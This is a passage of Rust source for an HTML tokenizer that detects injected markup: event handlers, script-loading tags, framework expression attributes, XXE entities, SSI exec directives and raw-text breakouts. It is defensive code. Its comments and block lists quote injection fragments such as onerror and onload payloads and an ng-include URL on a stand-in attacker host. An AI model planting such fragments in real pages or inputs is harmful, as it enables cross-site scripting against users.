//! An HTML tokenizer that follows the browser's tag-open, tag-name and attribute states
//! closely enough to see what a browser would build: tags, their attributes and attribute
//! values (entity-decoded, as the browser decodes them). Text between tags is not interpreted.
//!
//! Decisions: a tag that executes or loads active content by itself, an event-handler
//! attribute, a dangerous URI in any attribute, script-capable CSS in a `style` attribute or
//! element, a `meta` refresh, SVG animation of handlers or links.

use super::css;
use super::entity::decode_entities;
use super::js;
use super::lower_into;
use super::page;
use super::uri;

/// Tags a look-ahead or look-behind for one element examines.
const MAX_TAGS: usize = 256;
/// Tags examined per value; each one costs a bounded scan of its attributes. A value holds
/// at most [`super::MAX_SCAN_BYTES`] bytes, so this bound is never what stops the scan of a
/// whole value: an attack padded with hundreds of harmless tags is still reached.
const MAX_TAGS_PER_VALUE: usize = super::MAX_SCAN_BYTES / 2;
/// Attributes examined per tag.
const MAX_ATTRS: usize = 64;

/// HTML whitespace plus the vertical tab and NUL, which old engines also skipped between
/// attributes (`<img src=x\x0bonerror=…>`).
pub(super) fn is_space(b: u8) -> bool {
    SPACE[usize::from(b)]
}

/// [`is_space`] of every byte: one load instead of seven compares in the tokenizer's loops.
static SPACE: [bool; 256] = crate::byte_set(b" \t\n\r\x0c\x0b\0");

/// Bytes that end an attribute name: [`is_space`], `/`, `>` and `=` (one load per byte of
/// the name instead of five compares).
static ENDS_ATTR_NAME: [bool; 256] = {
    let mut t = SPACE;
    t[b'/' as usize] = true;
    t[b'>' as usize] = true;
    t[b'=' as usize] = true;
    t
};

/// [`is_space`] and `/`: what the tokenizer skips before an attribute name.
static SPACE_OR_SLASH: [bool; 256] = {
    let mut t = SPACE;
    t[b'/' as usize] = true;
    t
};

/// Tag names that run script or load an active document/plug-in whatever their attributes.
pub(super) fn executes_by_itself(name: &[u8]) -> bool {
    matches!(
        name,
        b"script"
            | b"iframe"
            | b"frame"
            | b"frameset"
            | b"object"
            | b"embed"
            | b"applet"
            | b"base"
            | b"portal"
            | b"import"
            | b"bgsound"
            | b"layer"
            | b"ilayer"
            | b"isindex"
            | b"vmlframe"
            | b"xss"
            | b"handler"
            | b"listener"
    )
}

/// A plug-in element with no attributes and no `<param>` after it (`<Object>` in API docs,
/// "returns an <object>") names no resource, so it loads and runs nothing.
fn bare_plugin(name: &[u8], b: &[u8], after_name: usize) -> bool {
    if !matches!(name, b"object" | b"embed" | b"applet") {
        return false;
    }
    let mut k = after_name;
    while k < b.len() && (is_space(b[k]) || b[k] == b'/') {
        k += 1;
    }
    if b.get(k) != Some(&b'>') {
        return false;
    }
    let rest = &b[k..b.len().min(k + 4096)];
    !memchr::memchr_iter(b'<', rest)
        .take(64)
        .any(|p| rest[p + 1..].len() >= 5 && rest[p + 1..p + 6].eq_ignore_ascii_case(b"param"))
}

/// Is `name` (lower-case, without the `on` prefix) a DOM event?
pub fn is_event_name(ev: &[u8]) -> bool {
    const PREFIXES: [&[u8]; 14] = [
        b"mouse",
        b"key",
        b"pointer",
        b"touch",
        b"drag",
        b"animation",
        b"transition",
        b"webkit",
        b"focus",
        b"before",
        b"after",
        b"moz",
        b"ms",
        b"page",
    ];
    if PREFIXES.iter().any(|p| ev.starts_with(p)) && ev.len() > 3 {
        return true;
    }
    matches!(
        ev,
        b"abort"
            | b"activate"
            | b"auxclick"
            | b"begin"
            | b"blur"
            | b"bounce"
            | b"cancel"
            | b"canplay"
            | b"canplaythrough"
            | b"change"
            | b"click"
            | b"close"
            | b"contextmenu"
            | b"copy"
            | b"cuechange"
            | b"cut"
            | b"dblclick"
            | b"drop"
            | b"durationchange"
            | b"emptied"
            | b"end"
            | b"ended"
            | b"error"
            | b"finish"
            | b"formdata"
            | b"fullscreenchange"
            | b"hashchange"
            | b"help"
            | b"input"
            | b"invalid"
            | b"load"
            | b"loadeddata"
            | b"loadedmetadata"
            | b"loadend"
            | b"loadstart"
            | b"message"
            | b"offline"
            | b"online"
            | b"paste"
            | b"pause"
            | b"play"
            | b"playing"
            | b"popstate"
            | b"progress"
            | b"propertychange"
            | b"ratechange"
            | b"readystatechange"
            | b"repeat"
            | b"reset"
            | b"resize"
            | b"scroll"
            | b"scrollend"
            | b"search"
            | b"seeked"
            | b"seeking"
            | b"select"
            | b"selectionchange"
            | b"selectstart"
            | b"show"
            | b"start"
            | b"stalled"
            | b"storage"
            | b"submit"
            | b"suspend"
            | b"timeupdate"
            | b"toggle"
            | b"unload"
            | b"volumechange"
            | b"waiting"
            | b"wheel"
            | b"filterchange"
            | b"datasetchanged"
            | b"errorupdate"
            | b"losecapture"
            | b"rowenter"
            | b"rowexit"
            | b"rowsdelete"
            | b"rowsinserted"
            | b"contentvisibilityautostatechange"
            | b"securitypolicyviolation"
            | b"slotchange"
            | b"visibilitychange"
            | b"message error"
            | b"readystate"
            | b"unhandledrejection"
            | b"orientationchange"
            | b"devicemotion"
            | b"deviceorientation"
            | b"zoom"
            | b"overflow"
            | b"underflow"
            | b"mozfullscreenchange"
    )
}

/// Handler attribute inside a real tag: `on` + letters (browsers fire only real events, but
/// custom elements and future events make the whole family dangerous there).
fn handler_attr(name: &[u8]) -> bool {
    // `on` and at least three letters; old engines also accepted junk after the event name
    // (`onload!#$%&()*~+-_.,:;?@[`)
    name.len() >= 5
        && name[..2].eq_ignore_ascii_case(b"on")
        && name[2..5].iter().all(u8::is_ascii_alphabetic)
        && name[2..]
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .count()
            >= 3
        && name[2..]
            .iter()
            .skip_while(|c| c.is_ascii_alphabetic())
            .all(|c| !c.is_ascii_alphanumeric())
}

/// What a framework does with an attribute's value ([`framework_attribute`]).
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Framework {
    /// An expression the framework evaluates, in event directives with the event as
    /// `$event`: AngularJS `ng-*` (also `data-ng-`, `x-ng-`, `ng:`, `ng_`), Vue `v-on:`,
    /// Alpine `x-on:` / `x-init`, and their `@event` shorthand.
    Expression,
    /// Knockout's `data-bind`: an object literal evaluated as code, whose event bindings
    /// (`click: function(){…}`) are called when the event fires.
    Binding,
    /// An htmx request attribute (`hx-get`, `hx-post`, …), whose response htmx swaps in.
    HtmxRequest,
    /// htmx's `hx-trigger`: the event that sends the request.
    HtmxTrigger,
    /// AngularJS `ng-include` (any of the `ng` spellings): its expression is a template
    /// URL that AngularJS fetches, compiles and links, so the template's expressions and
    /// directives run.
    Include,
    /// Rails UJS `data-remote`: the element's link or form is sent by `$.ajax`.
    UjsRemote,
    /// Rails UJS `data-type`: the `dataType` of that request; `script` and `jsonp` run
    /// the response.
    UjsType,
}

/// The framework meaning of the attribute named `lname` (lower-case), if any. Most names
/// leave at the first byte.
fn framework_attribute(lname: &[u8]) -> Option<Framework> {
    let first = *lname.first()?;
    if !matches!(first, b'n' | b'v' | b'x' | b'@' | b'd' | b'h') {
        return None;
    }
    if first == b'@' {
        return (lname.len() > 1).then_some(Framework::Expression);
    }
    if lname.starts_with(b"v-on:") || lname.starts_with(b"x-on:") || lname == b"x-init" {
        return Some(Framework::Expression);
    }
    if lname == b"data-bind" {
        return Some(Framework::Binding);
    }
    if lname == b"data-remote" {
        return Some(Framework::UjsRemote);
    }
    if lname == b"data-type" {
        return Some(Framework::UjsType);
    }
    let rest = lname.strip_prefix(b"data-").unwrap_or(lname);
    if let Some(h) = rest.strip_prefix(b"hx-") {
        return match h {
            b"get" | b"post" | b"put" | b"patch" | b"delete" => Some(Framework::HtmxRequest),
            b"trigger" => Some(Framework::HtmxTrigger),
            _ => None,
        };
    }
    let ng = rest.strip_prefix(b"x-").unwrap_or(rest);
    if !(ng.len() > 3 && ng.starts_with(b"ng") && matches!(ng[2], b'-' | b':' | b'_')) {
        return None;
    }
    Some(if &ng[3..] == b"include" {
        Framework::Include
    } else {
        Framework::Expression
    })
}

/// Whether an `ng-include` expression names a template to load: a string literal
/// (`'//evil.example/x.html'`, `"partials/a.html"`) or a URL written bare. A scope
/// variable alone (`ng-include="tpl"`) names what the page's own code chose.
fn includes_template(v: &str) -> bool {
    memchr::memchr2(b'\'', b'"', v.as_bytes()).is_some() || page::absolute_url(v)
}

/// Whether a Rails UJS `data-type` asks for a response that jQuery runs as script.
fn ujs_script_type(v: &str) -> bool {
    let v = v.trim();
    v.eq_ignore_ascii_case("script") || v.eq_ignore_ascii_case("jsonp")
}

/// Whether an `hx-trigger` value fires without the user: `load`, `revealed`, `intersect`
/// or polling (`every 2s`), alone or among other triggers (`load delay:1s, click`).
fn htmx_auto_trigger(v: &str) -> bool {
    v.split(|c: char| c == ',' || c.is_ascii_whitespace() || c == '[')
        .take(16)
        .any(|w| {
            ["load", "revealed", "intersect", "every"]
                .iter()
                .any(|t| w.eq_ignore_ascii_case(t))
        })
}

/// Scan `s` for markup that executes. Returns the reason.
pub fn scan(s: &str) -> Option<&'static str> {
    scan_depth(s, 0, &mut PlainTrack::off())
}

/// [`scan`], also answering the ML gate's question about `s`
/// ([`crate::ml::markup::is_plain_markup`]) from the tags this pass reads anyway, when the
/// scan ran to the end and could tell: `None` when it stopped early (a reason, the tag
/// limit) or met what the two readers of a tag take differently. On markup it proved plain
/// it also fills `delimiters` with the attribute delimiters the break-out scan looks for
/// ([`js::Delimiters`]), and says so (the third answer).
pub(super) fn scan_plain(
    s: &str,
    delimiters: Option<&mut Option<js::Delimiters>>,
) -> (Option<&'static str>, Option<bool>, bool) {
    let mut track = PlainTrack::on(s, delimiters);
    let reason = scan_depth(s, 0, &mut track);
    let plain = match track.state {
        _ if reason.is_some() => None,
        Plain::Pending => Some(track.tags > 0),
        Plain::No => Some(false),
        Plain::Unknown => None,
    };
    // (`delimiters` holds none when the value has no quoted start-tag value)
    let found = reason.is_none()
        && track.state == Plain::Pending
        && track.delimiters_hold
        && track.delimiters.is_some();
    (reason, plain, found)
}

/// Where the plain-markup answer stands while [`scan_depth`] reads a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Plain {
    /// Every tag so far is plain, and the ML gate's reader would have read the value up to
    /// here exactly as this pass did (same tags, same ends).
    Pending,
    /// A tag is not plain: the gate's reader stops at it with "no" whatever follows.
    No,
    /// Not tracked, or the two readers part ways here (the gate asks its own reader).
    Unknown,
}

/// The plain-markup answer ([`Plain`]) and how many plain tags were read.
///
/// The gate's reader ([`crate::ml::markup`]) takes a tag as: `<`, an optional `/`, a name of
/// letters and digits, then attributes separated by ASCII whitespace, each a name of
/// letters, digits, `-`, `_`, `:` and an optional `=` with a quoted or unquoted value, up
/// to `>` or `/>`. Where this pass reads the same bytes the same way, it judges the tag as
/// the gate would; at the first byte the gate's grammar rejects, the answer is "no"; where
/// only this pass's lenient reading differs (`\x0b` or NUL as space), it gives up.
///
/// On such markup the break-out scan's [`js::attribute_delimiters`] finds exactly the quoted
/// values of start tags: it reads `<` and a letter as a tag, `>` as its end, and `=` inside
/// a tag as the start of a value; a plain tag has no `<` or `>` inside, its quoted values
/// hold neither, and the whitespace around `=` is within what both skip. Only an unquoted
/// value holding `=` (`title=a="b"`) reads differently there, and then the delimiters are
/// not handed over (`delimiters_hold`).
struct PlainTrack<'d> {
    state: Plain,
    tags: usize,
    /// The whole value, and whether it closes an `<svg>` (asked once, when an SVG name is
    /// met): the gate takes SVG names as plain only then ([`crate::ml::markup::SvgDocument`]).
    whole: &'d [u8],
    svg: crate::ml::markup::SvgDocument,
    /// Where the delimiters go (made on the first one), when the caller wants them.
    delimiters: Option<&'d mut Option<js::Delimiters>>,
    delimiters_hold: bool,
}

impl<'d> PlainTrack<'d> {
    fn on(whole: &'d str, delimiters: Option<&'d mut Option<js::Delimiters>>) -> Self {
        PlainTrack {
            state: Plain::Pending,
            tags: 0,
            whole: whole.as_bytes(),
            svg: crate::ml::markup::SvgDocument::default(),
            delimiters,
            delimiters_hold: true,
        }
    }

    fn off() -> Self {
        PlainTrack {
            state: Plain::Unknown,
            tags: 0,
            whole: b"",
            svg: crate::ml::markup::SvgDocument::default(),
            delimiters: None,
            delimiters_hold: false,
        }
    }

    /// A start tag's quoted value between the quotes at `open` and `close`, judged plain;
    /// `quotes`: it may hold a quote.
    fn quoted_value(&mut self, open: usize, close: usize, quotes: bool) {
        if let Some(d) = self.delimiters.as_deref_mut() {
            d.get_or_insert_with(js::Delimiters::new)
                .push(open, close, quotes);
        }
    }

    /// An unquoted value: one holding `=` is where the break-out scan would look for a
    /// value of its own.
    fn unquoted_value(&mut self, value: &[u8]) {
        if self.pending() && self.delimiters.is_some() && value.contains(&b'=') {
            self.delimiters_hold = false;
        }
    }

    fn pending(&self) -> bool {
        self.state == Plain::Pending
    }

    /// Whether an SVG name (`svg`: one of the gate's SVG lists) is plain in this value.
    fn svg_plain(&mut self, svg: bool) -> bool {
        svg && self.svg.closed(self.whole)
    }

    /// The gate's reader rejects what is here (only while its reading agreed so far).
    fn reject(&mut self) {
        if self.pending() {
            self.state = Plain::No;
        }
    }

    /// The readers part ways here.
    fn give_up(&mut self) {
        if self.pending() {
            self.state = Plain::Unknown;
        }
    }

    /// A tag name (after `<` or `</`) that ends before `next`; `listed`: it is one of the
    /// gate's tags (matched exactly, so letters and digits only, as the gate reads one).
    /// The gate then wants whitespace, `>` or `/`.
    fn tag_name(&mut self, listed: bool, next: Option<&u8>) {
        if !self.pending() {
            return;
        }
        let ends = next.is_some_and(|&c| c.is_ascii_whitespace() || c == b'>' || c == b'/');
        if !ends || !listed {
            self.state = Plain::No;
        }
    }

    /// The bytes skipped before an attribute name (`gap`) and the byte after them: the gate
    /// skips ASCII whitespace only and takes `/` only right before `>`.
    fn gap(&mut self, gap: &[u8], next: Option<&u8>) {
        if !self.pending() {
            return;
        }
        // (mostly one space before another attribute)
        if gap == b" " && next.is_some() {
            return;
        }
        let last = gap.len().wrapping_sub(1);
        let ok = gap.iter().enumerate().all(|(k, &c)| {
            c.is_ascii_whitespace() || (c == b'/' && k == last && next == Some(&b'>'))
        });
        if !ok || next.is_none() {
            self.state = Plain::No;
        }
    }
}

/// `depth` counts nested scans of attribute values that contain markup themselves; `plain`
/// follows the ML gate's plain-markup answer ([`PlainTrack`]).
fn scan_depth(s: &str, depth: u8, plain: &mut PlainTrack<'_>) -> Option<&'static str> {
    let b = s.as_bytes();
    let mut page_reason = None;
    let mut i = 0;
    let mut tags = 0;
    while let Some(lt) = next_lt(b, i) {
        i = lt + 1;
        let Some(&c) = b.get(i) else { break };
        if c == b'!' && b[i..].starts_with(b"!--#") {
            // server-side include directives: `<!--#exec cmd="…"-->`, `<!--#include …-->`
            let d = &b[i + 4..b.len().min(i + 16)];
            let d: Vec<u8> = d.iter().map(u8::to_ascii_lowercase).collect();
            if d.starts_with(b"exec") || d.starts_with(b"include") || d.starts_with(b"echo") {
                return Some("ssi-directive");
            }
        }
        if c == b'!' && b.len() >= i + 7 && b[i + 1..i + 7].eq_ignore_ascii_case(b"ENTITY") {
            // `<!ENTITY x SYSTEM "http://…">`: an external entity pulls remote content into
            // an XML document (XXE)
            let rest = &b[i + 7..b.len().min(i + 512)];
            // one declaration, up to its `>`
            let rest = &rest[..memchr::memchr(b'>', rest).unwrap_or(rest.len())];
            let upper: Vec<u8> = rest.iter().map(u8::to_ascii_uppercase).collect();
            // an `NDATA` entity is unparsed (a notation such as an image): the parser never
            // reads its content into the document
            let unparsed = memchr::memmem::find(&upper, b"NDATA").is_some();
            if !unparsed
                && (memchr::memmem::find(&upper, b"SYSTEM").is_some()
                    || memchr::memmem::find(&upper, b"PUBLIC").is_some())
            {
                return Some("xml-external-entity");
            }
        }
        // End tags carry no behaviour in browsers, but old engines honoured their `style`:
        // read their attributes too (never their name).
        if c == b'%' && b.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
            // `<%script>…<%/script>`: a pseudo-tag that filters pass and lenient parsers
            // (and a second pass that drops the `%`) read as the tag; only a tag that
            // executes by itself counts, so ASP/JSP template text stays quiet
            if let (Some("executable-tag"), _) = tag(s, i + 1, false, depth, &mut PlainTrack::off())
            {
                return Some("executable-tag");
            }
            continue;
        }
        let tag_like = c.is_ascii_alphabetic() || c == b'/' || c == b'!';
        if depth == 0
            && tag_like
            && (page::closes_unopened_before(b, lt)
                || c == b'!' && page::ends_unopened_conditional(b, lt))
        {
            return Some("context-breakout");
        }
        if c == b'!' && page::unclosed_comment(b, lt) {
            return Some("unclosed-context");
        }
        if (c == b'!' || c == b'?') && page::spliced_prolog(b, lt) {
            return Some("spliced-prolog");
        }
        if c == b'!' && page::doctype_internal_subset(&b[i + 1..]) {
            return Some("doctype-internal-subset");
        }
        if c == b'?' {
            if let Some(r) = processing_instruction(&b[i + 1..]) {
                return Some(r);
            }
            continue;
        }
        let end_tag = c == b'/' && b.get(i + 1).is_some_and(|x| x.is_ascii_alphabetic());
        if c == b'/' && !end_tag {
            // `</` without a letter: the gate's reader wants a listed name there
            plain.reject();
        }
        if end_tag && closes_unopened_raw_text(b, i + 1) && !end_tag_named_in_prose(b, lt, i + 1) {
            return Some("raw-text-breakout");
        }
        // page-rewriting markup is reported unless something in the value also executes
        if page_reason.is_none() && (end_tag || c.is_ascii_alphabetic()) && page_name_start(b, i) {
            page_reason = page_markup(b, lt, end_tag);
        }
        if end_tag {
            i += 1;
        } else if !c.is_ascii_alphabetic() {
            // `<!-- -->`, `<?x?>`, `< 5`: keep scanning inside (IE conditional comments run
            // their content; bogus comments end at the first `>`).
            continue;
        }
        tags += 1;
        if tags > MAX_TAGS_PER_VALUE {
            plain.give_up();
            break;
        }
        if let Some(next) = bare_tag(b, i, end_tag, plain) {
            i = next;
            continue;
        }
        let (reason, next) = tag(s, i, end_tag, depth, plain);
        if reason.is_some() {
            return reason;
        }
        i = next.max(i);
    }
    page_reason
}

/// Names [`bare_tag`] reads at most (longer ones are left to [`tag`]).
const MAX_BARE_NAME: usize = 16;

/// A tag made of a name and `>` alone (`<p>`, `</span>`, `<li>`, `</code>`: two thirds of
/// the tags of rich text), read without [`tag`]'s attribute machinery; `None` (nothing
/// done) for any other tag. The name starts at `st` (after `<`, or `</` of an end tag).
///
/// Why the answer is [`tag`]'s: a name of ASCII letters and digits ending at `>` is read by
/// `tag` whole (no `<`, `:` or space in it), and its attribute loop stops at that `>` at
/// once with no attribute (the empty gap before it is one the gate accepts), so every rule
/// keyed on an attribute, and the SVG rule (it wants one), is silent. What remains are the
/// rules keyed on a start tag's name: a tag that executes by itself, and the `iframe`,
/// `form` and `style` rules; those names go to `tag`. The rest of its name rules (`meta`,
/// `link`) need an attribute. The gate's answer is `tag`'s: the listed test of the same
/// lower-cased, zero-padded name, and one more plain tag read.
fn bare_tag(b: &[u8], st: usize, end_tag: bool, plain: &mut PlainTrack<'_>) -> Option<usize> {
    let mut buf = [0u8; MAX_BARE_NAME];
    let mut e = st;
    while let Some(&c) = b.get(e) {
        if !c.is_ascii_alphanumeric() {
            break;
        }
        if e - st == MAX_BARE_NAME {
            return None;
        }
        buf[e - st] = c.to_ascii_lowercase();
        e += 1;
    }
    if e == st || b.get(e) != Some(&b'>') {
        return None;
    }
    let name = &buf[..e - st];
    if !end_tag && (executes_by_itself(name) || matches!(name, b"iframe" | b"form" | b"style")) {
        return None;
    }
    if plain.pending() {
        let x = u128::from_le_bytes(buf);
        let listed = crate::ml::markup::safe_tag_packed(x)
            || plain.svg_plain(crate::ml::markup::svg_tag_packed(x));
        plain.tag_name(listed, Some(&b'>'));
        if plain.pending() {
            plain.tags += 1;
        }
    }
    Some(e + 1)
}

/// Bytes looked at one by one before a search takes over in [`next_lt`].
const NEAR: usize = 8;

/// The first `<` at or after `i`. Highlighted code and rich text put tags side by side
/// (`</span><span …>`), closer than a dispatched search pays off: the next [`NEAR`] bytes
/// are looked at first, a longer run of text is left to `memchr`.
fn next_lt(b: &[u8], i: usize) -> Option<usize> {
    let i = i.min(b.len());
    let near = b.len().min(i + NEAR);
    if let Some(p) = b[i..near].iter().position(|&c| c == b'<') {
        return Some(i + p);
    }
    memchr::memchr(b'<', &b[near..]).map(|p| near + p)
}

/// The page-rewriting rules of [`page`] that depend on a tag's name and place: an element of
/// the web's vocabularies under an XML prefix anywhere, and a document-level element or form
/// (start or end tag) where markup stands, unless the value is a whole document. `lt` is the
/// `<`; the name starts after `<` or `</`.
fn page_markup(b: &[u8], lt: usize, end_tag: bool) -> Option<&'static str> {
    let st = lt + 1 + usize::from(end_tag);
    let raw_len = b[st..]
        .iter()
        .take(64)
        .take_while(|&&c| !is_space(c) && c != b'/' && c != b'>' && c != b'<')
        .count();
    let raw = &b[st..st + raw_len];
    if page::web_namespace_prefix(raw) {
        return Some("namespaced-markup");
    }
    let mut buf = [0u8; 8];
    let name = lower_into(raw, &mut buf);
    // the name tests first: they are cheap and almost every tag fails them
    let swallows = !end_tag && page::swallows_page(name);
    if raw.len() > 8 || !(page::page_level_element(name) || swallows) {
        return None;
    }
    // a whole document rewrites no other page: its document elements are its own
    let page_level = page::page_level_element(name)
        && !page::whole_document(b)
        && !(name != b"form" && page::xml_document(b));
    if !(page_level || swallows) || !page::markup_position(b, lt) {
        return None;
    }
    // a form is judged with its action (`tag`); an end tag of an element the value opened
    // closes its own element
    let start_form = name == b"form" && !end_tag;
    let closes_own = end_tag && opens_element_before(b, name, lt);
    if page_level && !start_form && !closes_own {
        return Some("page-level-markup");
    }
    if swallows
        && !closes_after(b, name, st + raw_len)
        && !named_in_prose(b, lt, st + raw_len, name, false)
    {
        return Some("unclosed-context");
    }
    None
}

/// Whether the name at `b[i..]` (after `<`, or `/` of an end tag) can start one that
/// [`page_markup`] judges, by its first two letters: `html`/`head`, `body`, `form`, `math`,
/// `noscript`/`noembed`/`noframes`, `style`/`svg`, `textarea`/`title`, `xmp`/`xml:`/`xhtml:`.
/// Most tags (`p`, `a`, `span`, `div`, `td`, `li`, `code`…) leave here.
fn page_name_start(b: &[u8], i: usize) -> bool {
    let at = if b.get(i) == Some(&b'/') { i + 1 } else { i };
    let (Some(&first), Some(&second)) = (b.get(at), b.get(at + 1)) else {
        return false;
    };
    // (`| 0x20` lower-cases a letter and makes no other byte one: a letter test after it
    // is the letter test of the byte)
    let (first, second) = (first | 0x20, second | 0x20);
    first.is_ascii_lowercase()
        && second.is_ascii_lowercase()
        && PAGE_SECOND[usize::from(first - b'a')] & (1 << (second - b'a')) != 0
}

/// For each first letter of a name (`a` = 0), a bit per second letter that
/// [`page_name_start`] lets through.
static PAGE_SECOND: [u32; 26] = {
    const PAIRS: [&[u8; 2]; 12] = [
        b"ht", b"he", b"bo", b"fo", b"no", b"ma", b"st", b"sv", b"te", b"ti", b"xm", b"xh",
    ];
    let mut t = [0u32; 26];
    let mut k = 0;
    while k < PAIRS.len() {
        t[(PAIRS[k][0] - b'a') as usize] |= 1 << (PAIRS[k][1] - b'a');
        k += 1;
    }
    t
};

/// Whether `b[from..]` holds an end tag `</name` (any case), as far as [`MAX_TAGS`] tags.
fn closes_after(b: &[u8], name: &[u8], from: usize) -> bool {
    let rest = &b[from.min(b.len())..];
    memchr::memchr_iter(b'<', rest).take(MAX_TAGS).any(|p| {
        let t = &rest[p + 1..];
        t.first() == Some(&b'/')
            && t.len() > name.len()
            && t[1..=name.len()].eq_ignore_ascii_case(name)
    })
}

/// Elements whose content the tokenizer reads as raw text (script, style, xmp, iframe…) or
/// escapable raw text (textarea, title), plus those whose content is inert text when script
/// is on (noscript, noembed, noframes) and `template`. Reflected into one of them, a value is
/// inert until it ends the element; after its end tag, markup parses again.
fn raw_text_element(name: &[u8]) -> bool {
    RAW_TEXT_NAMES.contains(&name)
}

/// Longest raw-text element name.
const MAX_RAW_NAME: usize = 9;

/// The names [`raw_text_element`] accepts.
const RAW_TEXT_NAMES: [&[u8]; 11] = [
    b"script",
    b"style",
    b"textarea",
    b"title",
    b"xmp",
    b"iframe",
    b"noscript",
    b"noembed",
    b"noframes",
    b"template",
    b"plaintext",
];

/// For each name length, a bit per first letter (`a` = bit 0) of the [`RAW_TEXT_NAMES`] of
/// that length.
static RAW_TEXT_FIRST: [u32; MAX_RAW_NAME + 1] = super::first_letters_by_length(&RAW_TEXT_NAMES);

/// A bit per first letter of any of the [`RAW_TEXT_NAMES`].
const RAW_TEXT_ANY_FIRST: u32 = {
    let mut m = 0;
    let mut n = 0;
    while n <= MAX_RAW_NAME {
        m |= RAW_TEXT_FIRST[n];
        n += 1;
    }
    m
};

/// An end tag of a raw-text element (name at `b[at..]`, after `</`) whose element the value
/// never opened before it: the value was placed inside that element by the page and breaks
/// out of it (`</script><svg onload=…>`, `</textarea>`, `</title>`). A value that opens the
/// element itself (`<title>Home</title>` in rich text) closes its own element. The end tag
/// must be complete (a `>` follows) as a browser needs it to be.
fn closes_unopened_raw_text(b: &[u8], at: usize) -> bool {
    // most end tags (`</div>`, `</a>`, `</li>`, `</code>`) start with a letter no raw-text
    // name starts with: no need to read their name
    if !b.get(at).is_some_and(|&c| {
        c.is_ascii_alphabetic() && RAW_TEXT_ANY_FIRST & (1 << ((c | 0x20) - b'a')) != 0
    }) {
        return false;
    }
    let mut e = at;
    while e < b.len() && b[e].is_ascii_alphabetic() && e - at <= MAX_RAW_NAME {
        e += 1;
    }
    let mut name = [0u8; MAX_RAW_NAME + 1];
    let n = e - at;
    if n > MAX_RAW_NAME {
        return false;
    }
    // most end tags (`</span>`, `</p>`, `</div>`) differ from every raw-text name in length
    // or first letter: no copy, no compare
    if n == 0 || RAW_TEXT_FIRST[n] & (1 << ((b[at] | 0x20) - b'a')) == 0 {
        return false;
    }
    for (d, c) in name.iter_mut().zip(&b[at..e]) {
        *d = c.to_ascii_lowercase();
    }
    let name = &name[..n];
    if !raw_text_element(name) {
        return false;
    }
    // the name ends where the tokenizer ends it, and the tag is closed
    if !matches!(b.get(e), Some(&c) if c == b'>' || c == b'/' || is_space(c)) {
        return false;
    }
    if memchr::memchr(b'>', &b[e..]).is_none() {
        return false;
    }
    !opens_element_before(b, name, at.saturating_sub(2))
}

/// An `id` or `name` that shadows a member of `document` or of every object: the browser
/// makes `document.currentScript`, `document.getElementById` or `x.__proto__` the injected
/// element, so the page's own script loads the element's `src`/`href` or breaks (DOM
/// clobbering). These are API names, written in JavaScript's case, that no author gives an
/// anchor or field (unlike `location`, `body` or `cookie`, which forms and pages use).
fn clobbers_document(value: &str) -> bool {
    matches!(
        value.trim(),
        "currentScript"
            | "getElementById"
            | "getElementsByName"
            | "getElementsByTagName"
            | "getElementsByClassName"
            | "querySelector"
            | "querySelectorAll"
            | "createElement"
            | "documentElement"
            | "defaultView"
            | "__proto__"
            | "hasOwnProperty"
    )
}

/// Bytes after a tag read by [`named_in_prose`].
const MAX_PROSE_SCAN: usize = 512;

/// Whether the start tag at `lt` (its name `name`, lower-case, ending at `after_name`) is
/// named in running text, not markup: "How do I use <script> tags in HTML?", "<title>
/// should be under 60 characters", "The <iframe> element embeds another page". The tag
/// carries at most bare words (`<script defer>`: no value, so no `src`, handler or URL), and
/// prose stands beside it: a word before it (`use <script>`), or two words side by side after
/// it that no JavaScript keyword joins (`<title> should be`). For a `<script>` (`script`),
/// its text up to `</script>` or the end must also hold nothing that calls, assigns, indexes
/// or escapes (`(`, `=`, `` ` ``, `[`, `{`, `\`): read as a script it can then run nothing
/// (and its words side by side make it a SyntaxError). A bare `<script>` or `<textarea>` with
/// nothing after it stays markup (the half of a split payload, the swallow of the page).
fn named_in_prose(b: &[u8], lt: usize, after_name: usize, name: &[u8], script: bool) -> bool {
    let mut k = after_name;
    while k < b.len()
        && k - after_name < 64
        && (b[k].is_ascii_alphanumeric() || matches!(b[k], b' ' | b'-'))
    {
        k += 1;
    }
    if b.get(k) != Some(&b'>') {
        return false;
    }
    // `<script tags> explained` (a search for a tutorial): the tag's bare words are not
    // attributes a script element knows, so they are prose written inside the brackets
    let words_in_tag = script && prose_word_in_script_tag(&b[after_name..k]);
    let rest = &b[k + 1..b.len().min(k + 1 + MAX_PROSE_SCAN)];
    // the element's text: to its end tag, or all we read
    let text_end = memchr::memmem::find_iter(rest, b"</")
        .find(|&p| {
            rest.len() >= p + 2 + name.len()
                && rest[p + 2..p + 2 + name.len()].eq_ignore_ascii_case(name)
        })
        .unwrap_or(rest.len());
    let text = &rest[..text_end];
    // (a raw-text element's text holds no tags; other tags there are markup of their own)
    if !script && memchr::memchr(b'<', text).is_some() {
        return false;
    }
    if script
        && text
            .iter()
            .any(|&c| matches!(c, b'(' | b'=' | b'`' | b'[' | b'{' | b'\\'))
    {
        return false;
    }
    let head = &b[..lt.min(b.len())];
    let word_before = head.last().is_some_and(|&c| c == b' ')
        && head
            .iter()
            .rposition(|&c| c != b' ')
            .is_some_and(|p| head[p].is_ascii_alphabetic() || head[p] >= 0x80);
    (script && word_before)
        || words_side_by_side(text)
        || (words_in_tag && text.iter().any(u8::is_ascii_alphabetic))
}

/// Whether the bare words inside a script start tag (`b`: after the name, up to `>`) hold
/// one that is no attribute of a script element: `<script tags>` reads as the words "script
/// tags", `<script defer>` and `<script async>` as markup.
fn prose_word_in_script_tag(b: &[u8]) -> bool {
    b.split(|&c| c == b' ')
        .filter(|w| !w.is_empty())
        .take(8)
        .any(|w| {
            w.len() <= 16
                && w.iter().all(u8::is_ascii_alphabetic)
                && !SCRIPT_ATTRIBUTES.iter().any(|a| a.eq_ignore_ascii_case(w))
        })
}

/// The attributes a `<script>` element knows (HTML's, and IE's `event`/`for`/`language`),
/// with the global ones a page's markup puts on it.
const SCRIPT_ATTRIBUTES: [&[u8]; 18] = [
    b"async",
    b"defer",
    b"nomodule",
    b"type",
    b"src",
    b"crossorigin",
    b"integrity",
    b"nonce",
    b"referrerpolicy",
    b"blocking",
    b"charset",
    b"language",
    b"event",
    b"for",
    b"fetchpriority",
    b"id",
    b"class",
    b"attributionsrc",
];

/// Whether `t` holds two words (letters) separated only by spaces (or a query string's `+`),
